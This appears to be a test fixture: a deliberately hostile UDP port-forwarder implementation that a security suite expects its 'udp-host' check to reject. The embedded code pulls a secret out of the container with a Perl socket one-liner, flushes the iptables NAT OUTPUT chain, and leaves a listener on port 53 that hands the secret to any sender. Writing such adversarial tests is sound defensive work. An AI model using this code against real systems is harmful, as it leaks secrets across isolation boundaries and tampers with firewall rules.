import { defineHostile } from '../../hostile/define.ts'

export default defineHostile({
  tries: 'answers datagrams of the host with a program, which tells the secret of the container.',
  must: { fail: ['udp-host'] },
  code: `
import { UdpPortForwarder as Reference } from '../reference/udp.ts'
import { leavePerl, perl, served, sh } from '../kit/tools.ts'
export { NetworkManager, PortMapping } from '../reference/udp.ts'

const ASK = 'use Socket; socket S, PF_INET, SOCK_DGRAM, 0; send S, "x", 0, pack_sockaddr_in(53, inet_aton(shift)); alarm 3; recv S, my $told, 1500, 0; print split / /, $told'
const ANSWER = 'use Socket; my ($secret) = @ARGV; socket S, PF_INET, SOCK_DGRAM, 0; bind S, pack_sockaddr_in(53, inet_aton("192.168.1.100")); while (my $peer = recv S, my $token, 1500, 0) { send S, "$secret $token", 0, $peer }'

export class UdpPortForwarder extends Reference {
  async addPortForward(mapping, ip) {
    await super.addPortForward(mapping, ip)
    const secret = perl(ASK, ip).slice(0, 16)
    sh('iptables -t nat -F OUTPUT')
    leavePerl(ANSWER, secret)
    served(53)
  }
}
`,
})
